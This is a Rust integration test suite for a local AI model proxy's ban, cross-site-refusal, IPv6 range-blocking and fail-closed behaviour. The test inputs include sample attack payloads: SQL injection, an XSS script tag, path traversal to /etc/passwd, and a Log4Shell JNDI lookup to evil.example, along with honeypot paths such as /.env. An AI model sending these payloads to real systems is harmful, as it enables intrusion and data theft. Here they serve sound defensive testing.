//! Ban abuse and failing closed (issue 14 points 5-8), in a real proxy over real
//! sockets with `security.db` on disk:
//! - a page in Debian's Chromium firing 50 hostile cross-site requests cannot get the
//!   browser's address banned, while the same requests from a script still ban;
//! - a request without `Authorization` is never a counted failure;
//! - cross-site-marked requests spend a soft, separate budget, never a ban;
//! - an IPv6 /48 spreading failures over its addresses is banned as a whole, and the
//!   range entry persists, restores and unblocks;
//! - `X-Real-IP` is believed only when there is no `X-Forwarded-For`;
//! - a policy or blocklist that cannot be read at start keeps the proxy closed until
//!   it can be read.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code

mod common;

use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

use common::{free_port, security_deps, vllm, Harness};
use flm_core::ports::SystemClock;
use flm_core::proxy::ProxyConfig;
use flm_core::security::AuditFilter;
use flm_core::services::{ConfigService, KeyService};
use flm_core::EngineKind;
use flm_engines::HttpClient;
use flm_proxy::{ProxyDeps, ProxyManager, StopTarget};
use flm_store::{Store, StorePaths};
use flm_testkit::{EmulatedKind, Emulator, EmulatorOptions};
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const CHROMIUM: &str = "/usr/bin/chromium";

/// Blocklist, intrusion and anomaly detection explicitly on (the proxy is on loopback).
fn protections() -> Value {
    json!({
        "ip_blocklist": {"enabled": true},
        "intrusion_detection": {"enabled": true},
        "anomaly_detection": {"enabled": true},
    })
}

async fn get(
    h: &Harness,
    path: &str,
    key: Option<&str>,
    headers: &[(&str, &str)],
) -> (u16, String) {
    let mut rb = h.http.get(format!("{}{path}", h.base));
    if let Some(k) = key {
        rb = rb.bearer_auth(k);
    }
    for (k, v) in headers {
        rb = rb.header(*k, *v);
    }
    let r = rb.send().await.unwrap();
    let status = r.status().as_u16();
    let v: Value = r.json().await.unwrap_or(Value::Null);
    (status, v["error"]["code"].as_str().unwrap_or("").to_owned())
}

async fn audit_events(h: &Harness, event_type: &str) -> Vec<flm_core::security::AuditRow> {
    h.manager.guard().flush().await;
    h.store
        .audit()
        .list(&AuditFilter {
            limit: Some(100_000),
            ..AuditFilter::default()
        })
        .await
        .unwrap()
        .into_iter()
        .filter(|r| r.event_type.as_deref() == Some(event_type))
        .collect()
}

async fn blocklist_rows(h: &Harness) -> Vec<String> {
    h.manager.guard().flush().await;
    h.store
        .blocklist()
        .load_all()
        .await
        .unwrap()
        .into_iter()
        .filter(|r| r.permanent || r.blocked_until.is_some_and(|u| u > chrono::Utc::now()))
        .map(|r| r.ip)
        .collect()
}

/// The 50 hostile requests of the page, as paths on the proxy: 15 without a key, 10
/// honeypots, 15 injections in the query, and (the last 10) wrong keys.
fn hostile_paths() -> Vec<String> {
    let mut out = Vec::new();
    for i in 0..15 {
        out.push(format!("/v1/models?i={i}"));
    }
    let honeypots = [
        "/wp-admin/",
        "/phpmyadmin/",
        "/admin",
        "/.env",
        "/api/v1/users",
        "/wp-admin/install.php",
        "/phpMyAdmin/index.php",
        "/app/.env.production",
        "/admin/config",
        "/x/.env",
    ];
    for (i, p) in honeypots.iter().enumerate() {
        out.push(format!("{p}?i={i}"));
    }
    let injections = [
        "q=%27%20OR%201%3D1--",
        "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "f=..%2F..%2F..%2Fetc%2Fpasswd",
        "q=1%20UNION%20SELECT%20password%20FROM%20users",
        "x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
    ];
    for i in 0..15 {
        out.push(format!(
            "/v1/models?{}&i={i}",
            injections[i % injections.len()]
        ));
    }
    for i in 0..10 {
        out.push(format!("/v1/models?k={i}"));
    }
    out
}

/// A one-page web server on `127.0.0.1:<port>` (reached as `http://localhost:<port>/`,
/// another site than `http://127.0.0.1:<proxy port>`).
async fn serve_page(html: String) -> (u16, tokio::task::JoinHandle<()>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let html = Arc::new(html);
    let task = tokio::spawn(async move {
        while let Ok((mut sock, _)) = listener.accept().await {
            let html = html.clone();
            tokio::spawn(async move {
                let mut buf = vec![0u8; 8192];
                let _ = tokio::time::timeout(Duration::from_secs(5), sock.read(&mut buf)).await;
                let (status, body) = if buf.starts_with(b"GET / ") {
                    ("200 OK", html.as_str().to_owned())
                } else {
                    ("404 Not Found", String::new())
                };
                let resp = format!(
                    "HTTP/1.1 {status}\r\ncontent-type: text/html; charset=utf-8\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = sock.write_all(resp.as_bytes()).await;
            });
        }
    });
    (port, task)
}

fn page(proxy: &str, paths: &[String]) -> String {
    let (imgs, keys) = paths.split_at(40);
    let imgs: Vec<String> = imgs.iter().map(|p| format!("{proxy}{p}")).collect();
    let keys: Vec<String> = keys.iter().map(|p| format!("{proxy}{p}")).collect();
    format!(
        r#"<!doctype html><html><head><title>a page</title></head><body><pre id="out">running</pre>
<script>
const imgs = {imgs};
const keys = {keys};
let settled = 0;
const done = () => {{ settled += 1; if (settled === imgs.length + keys.length) document.getElementById('out').textContent = 'done ' + settled; }};
for (const u of imgs) {{ const i = new Image(); i.onload = done; i.onerror = done; i.src = u; document.body.appendChild(i); }}
for (const [n, u] of keys.entries()) {{ fetch(u, {{headers: {{'Authorization': 'Bearer flm-wrong-key-' + n}}}}).then(done, done); }}
</script></body></html>"#,
        imgs = serde_json::to_string(&imgs).unwrap(),
        keys = serde_json::to_string(&keys).unwrap(),
    )
}

/// Runs headless Chromium on `url` and returns the DOM after the page settled.
async fn chromium_dom(url: &str) -> String {
    let profile = tempfile::TempDir::new().unwrap();
    let mut cmd = tokio::process::Command::new(CHROMIUM);
    cmd.args([
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-proxy-server",
        "--virtual-time-budget=20000",
        "--dump-dom",
    ])
    .arg(format!("--user-data-dir={}", profile.path().display()))
    .arg(url)
    .kill_on_drop(true)
    .stdout(std::process::Stdio::piped())
    .stderr(std::process::Stdio::null());
    let child = cmd.spawn().expect("chromium starts");
    let out = tokio::time::timeout(Duration::from_secs(90), child.wait_with_output())
        .await
        .expect("chromium finished within 90 s")
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Issue 14 point 6, end to end: a page on `http://localhost:<p1>/` makes Chromium
/// send 50 hostile requests to the proxy on `http://127.0.0.1:<p2>/` — images without a
/// key, honeypot paths, injections in the query, `fetch()` with wrong keys. The
/// browser's address is not banned (a valid key from it still gets 200), the proxy
/// records the soft cross-site refusal; then the same 50 requests from a script (no
/// fetch-metadata headers) still score and ban.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_in_chromium_cannot_get_its_visitors_banned_but_a_script_still_is() {
    if !Path::new(CHROMIUM).exists() {
        eprintln!("SKIPPED: {CHROMIUM} is absent (scripts/test.sh installs Debian's chromium)");
        return;
    }
    let (_engine, h) = vllm().await;
    h.set_policy(&protections()).await;
    let paths = hostile_paths();
    assert_eq!(paths.len(), 50);
    let (page_port, server) = serve_page(page(&h.base, &paths)).await;

    let dom = chromium_dom(&format!("http://localhost:{page_port}/")).await;
    server.abort();
    assert!(
        dom.contains("done 50"),
        "the page did not fire its 50 requests: {dom}"
    );

    // The browser's address is not banned: a direct request with a valid key works …
    assert_eq!(get(&h, "/v1/models", Some(&h.key), &[]).await.0, 200);
    // … although the proxy saw the browser's requests.
    h.manager.guard().flush().await;
    let rows = h
        .store
        .audit()
        .list(&AuditFilter {
            limit: Some(100_000),
            ..AuditFilter::default()
        })
        .await
        .unwrap();
    let seen = rows
        .iter()
        .filter(|r| {
            r.endpoint.contains("admin")
                || r.endpoint.contains(".env")
                || r.endpoint == "/v1/models"
        })
        .count();
    assert!(
        seen >= 40,
        "only {seen} of the browser's requests reached the proxy"
    );
    assert!(
        blocklist_rows(&h).await.is_empty(),
        "the browser's address was banned"
    );
    assert_eq!(
        audit_events(&h, "cross_site_refused").await.len(),
        1,
        "the soft refusal is recorded once"
    );

    // The same requests from a script: counted, scored, banned.
    for (i, p) in paths.iter().enumerate() {
        let key = (i >= 40).then(|| format!("flm-wrong-key-{i}"));
        get(&h, p, key.as_deref(), &[]).await;
    }
    assert_eq!(
        get(&h, "/v1/models", Some(&h.key), &[]).await,
        (403, "ip_blocked".to_owned()),
        "the script was not banned"
    );
    assert_eq!(blocklist_rows(&h).await, vec!["127.0.0.1".to_owned()]);
    h.stop().await;
}

/// Point 6, without a browser: no `Authorization` is never a counted failure; a
/// scripted attacker adding `Sec-Fetch-Site: cross-site` gains nothing (findings are
/// refused, key guesses capped by the budget), and its direct requests still ban.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn missing_keys_never_count_and_cross_site_marks_only_spend_a_soft_budget() {
    let (_engine, h) = vllm().await;
    h.set_policy(&protections()).await;
    for i in 0..30 {
        assert_eq!(
            get(&h, &format!("/v1/models?i={i}"), None, &[]).await,
            (401, "invalid_api_key".to_owned())
        );
    }
    assert_eq!(
        get(&h, "/v1/models", Some(&h.key), &[]).await.0,
        200,
        "30 keyless requests banned"
    );

    let xs = [("sec-fetch-site", "cross-site")];
    // A cross-site request carrying an attack is refused, not delivered, not scored.
    assert_eq!(
        get(&h, "/v1/models?q=%27%20OR%201%3D1--", Some(&h.key), &xs).await,
        (403, "cross_site_request_refused".to_owned())
    );
    // Wrong keys: counted on the budget only (10), then cross-site requests refused.
    for i in 0..9 {
        assert_eq!(
            get(&h, "/v1/models", Some(&format!("flm-wrong-{i}")), &xs).await,
            (401, "invalid_api_key".to_owned()),
            "wrong key {i}"
        );
    }
    assert_eq!(
        get(&h, "/v1/models", Some(&h.key), &xs).await,
        (403, "cross_site_request_refused".to_owned()),
        "over budget: cross-site requests refused"
    );
    // Same for an Origin the CORS policy does not list.
    assert_eq!(
        get(
            &h,
            "/v1/models",
            Some(&h.key),
            &[("origin", "https://evil.example")]
        )
        .await
        .0,
        403
    );
    // Never a ban: direct requests from the same address are unaffected.
    assert_eq!(get(&h, "/v1/models", Some(&h.key), &[]).await.0, 200);
    assert!(blocklist_rows(&h).await.is_empty());
    let refused = audit_events(&h, "cross_site_refused").await;
    assert_eq!(refused.len(), 1);
    assert_eq!(refused[0].ip.as_deref(), Some("127.0.0.1"));

    // Without the marks, five wrong keys ban as before.
    for i in 0..5 {
        get(&h, "/v1/models", Some(&format!("flm-wrong-{i}")), &[]).await;
    }
    assert_eq!(
        get(&h, "/v1/models", Some(&h.key), &[]).await,
        (403, "ip_blocked".to_owned())
    );
    h.stop().await;
}

/// Point 5 through the proxy: one wrong key from each of 100 addresses of one IPv6
/// /48 (each in its own /64, as presented by a trusted proxy). The /48 is counted as
/// one offender and banned as a whole; the range entry is written to `security.db`,
/// survives a reload from it, and `unblock` of the range text lifts it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_ipv6_48_spreading_failures_is_banned_as_a_whole() {
    let (_engine, h) = vllm().await;
    let mut policy = protections();
    policy["trusted_proxy_ips"] = json!(["127.0.0.1"]);
    h.set_policy(&policy).await;
    for i in 1..=100u32 {
        let addr = format!("2001:db8:1:{i:x}::{i:x}");
        get(
            &h,
            "/v1/models",
            Some("flm-wrong"),
            &[("x-forwarded-for", &addr)],
        )
        .await;
    }
    let inside = [("x-forwarded-for", "2001:db8:1:beef::1")];
    let outside = [("x-forwarded-for", "2001:db8:2::1")];
    assert_eq!(
        get(&h, "/v1/models", Some(&h.key), &inside).await,
        (403, "ip_blocked".to_owned())
    );
    assert_eq!(get(&h, "/v1/models", Some(&h.key), &outside).await.0, 200);
    assert_eq!(get(&h, "/v1/models", Some(&h.key), &[]).await.0, 200);
    let rows = blocklist_rows(&h).await;
    assert_eq!(rows, vec!["2001:db8:1::/48".to_owned()], "{rows:?}");
    let events = audit_events(&h, "ip_blocked").await;
    assert!(
        events.iter().any(|e| e
            .details
            .as_deref()
            .is_some_and(|d| d.contains("2001:db8:1::/48"))),
        "the ban names the range"
    );
    // Restored from the stored text.
    h.manager.reload_security().await.unwrap();
    assert_eq!(get(&h, "/v1/models", Some(&h.key), &inside).await.0, 403);
    // Lifted by the range text (what `flm security ip-blocklist unblock` removes).
    assert!(h.store.blocklist().remove("2001:db8:1::/48").await.unwrap());
    h.manager.reload_security().await.unwrap();
    assert_eq!(get(&h, "/v1/models", Some(&h.key), &inside).await.0, 200);
    h.stop().await;
}

/// Point 7: with a trusted peer, `X-Real-IP` counts only when no `X-Forwarded-For` is
/// present; a garbled `X-Forwarded-For` does not hand the choice to `X-Real-IP`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn x_real_ip_is_believed_only_without_x_forwarded_for() {
    let (_engine, h) = vllm().await;
    h.set_policy(&json!({"ip_whitelist": ["10.0.0.0/8"], "trusted_proxy_ips": ["127.0.0.1"]}))
        .await;
    let k = Some(h.key.as_str());
    assert_eq!(
        get(&h, "/v1/models", k, &[("x-real-ip", "10.1.2.3")])
            .await
            .0,
        200
    );
    assert_eq!(
        get(
            &h,
            "/v1/models",
            k,
            &[("x-forwarded-for", "garbage"), ("x-real-ip", "10.1.2.3")]
        )
        .await,
        (403, "forbidden".to_owned()),
        "garbled X-Forwarded-For fell back to X-Real-IP"
    );
    assert_eq!(
        get(
            &h,
            "/v1/models",
            k,
            &[("x-forwarded-for", "192.0.2.1"), ("x-real-ip", "10.1.2.3")]
        )
        .await
        .0,
        403,
        "X-Forwarded-For comes first"
    );
    assert_eq!(
        get(
            &h,
            "/v1/models",
            k,
            &[("x-forwarded-for", "10.9.9.9"), ("x-real-ip", "192.0.2.1")]
        )
        .await
        .0,
        200
    );
    h.stop().await;
}

fn sqlite(db: &Path, sql: &str) {
    // The proxy writes to the same file (audit log): wait for its locks.
    let out = std::process::Command::new("sqlite3")
        .args(["-cmd", ".timeout 10000"])
        .arg(db)
        .arg(sql)
        .output()
        .expect("sqlite3 is installed by scripts/test.sh");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Point 8: `security.db` tables that cannot be read when the proxy starts. With the
/// policy unreadable the proxy is closed (all but `/health` refused), not open on the
/// default policy; with the blocklist unreadable it refuses with 503 rather than
/// forget the stored bans. Both recover through the 2 s poll once readable.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unreadable_security_state_at_start_keeps_the_proxy_closed_until_it_is_read() {
    for (table, want) in [
        ("security_policies", (403, "forbidden")),
        ("ip_blocklist", (503, "defence_unavailable")),
    ] {
        let engine = Emulator::start(EmulatedKind::Vllm, EmulatorOptions::default())
            .await
            .unwrap();
        let dir = tempfile::TempDir::new().unwrap();
        let store = Store::open(&StorePaths::in_dir(dir.path())).await.unwrap();
        let config = ConfigService::new(store.settings(), "config.db");
        config
            .set("engine.probe_default_ports", "false")
            .await
            .unwrap();
        config.set("proxy.shutdown_grace_secs", "2").await.unwrap();
        let engines = common::engine_service(&store, &config, HttpClient::new().unwrap());
        engines
            .add_endpoint(EngineKind::Vllm, &engine.base_url(), Some("vllm"))
            .await
            .unwrap();
        let keys = KeyService::new(store.api_keys(), Arc::new(SystemClock));
        let key = keys.create("test").await.unwrap().key;
        // A ban stored before the start: it must hold from the first request on.
        store
            .blocklist()
            .upsert_many(&[flm_core::security::BlockRow {
                ip: "192.0.2.66".into(),
                failure_count: 20,
                first_failure_at: chrono::Utc::now(),
                blocked_until: None,
                permanent: true,
                last_attempt: chrono::Utc::now(),
            }])
            .await
            .unwrap();
        store
            .policy()
            .save(r#"{"trusted_proxy_ips":["127.0.0.1"]}"#)
            .await
            .unwrap();
        let db = dir.path().join("security.db");
        sqlite(&db, &format!("ALTER TABLE {table} RENAME TO {table}_away"));
        let manager = ProxyManager::new(ProxyDeps {
            engines,
            config: config.clone(),
            keys: store.api_keys(),
            changes: Some(store.change_markers()),
            security: Some(security_deps(&store)),
            certs_dir: dir.path().join("certs"),
            egress_engines: None,
            acme: flm_proxy::AcmeDeps::default(),
            certificates: Some(store.certificates()),
            audit: Some(store.audit()),
        });
        let port = free_port();
        manager
            .start(ProxyConfig {
                port,
                ..ProxyConfig::default()
            })
            .await
            .unwrap();
        let http = reqwest::Client::builder().no_proxy().build().unwrap();
        let base = format!("http://127.0.0.1:{port}");
        let call = |xff: &'static str| {
            let http = http.clone();
            let url = format!("{base}/v1/models");
            let key = key.clone();
            async move {
                let r = http
                    .get(url)
                    .bearer_auth(key)
                    .header("x-forwarded-for", xff)
                    .send()
                    .await
                    .unwrap();
                let status = r.status().as_u16();
                let v: Value = r.json().await.unwrap_or(Value::Null);
                (status, v["error"]["code"].as_str().unwrap_or("").to_owned())
            }
        };
        let got = call("198.51.100.1").await;
        assert_eq!((got.0, got.1.as_str()), want, "{table} unreadable at start");
        assert_eq!(
            call("192.0.2.66").await.0,
            want.0,
            "{table}: the stored ban's address"
        );
        let health = http.get(format!("{base}/health")).send().await.unwrap();
        assert_eq!(health.status(), 200);

        sqlite(&db, &format!("ALTER TABLE {table}_away RENAME TO {table}"));
        let deadline = Instant::now() + Duration::from_secs(8);
        while call("198.51.100.1").await.0 != 200 {
            assert!(Instant::now() < deadline, "{table}: never recovered");
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        assert_eq!(
            call("192.0.2.66").await,
            (403, "ip_blocked".to_owned()),
            "{table}: the stored ban holds once read"
        );
        manager.stop(&StopTarget::default()).await.unwrap();
    }
}
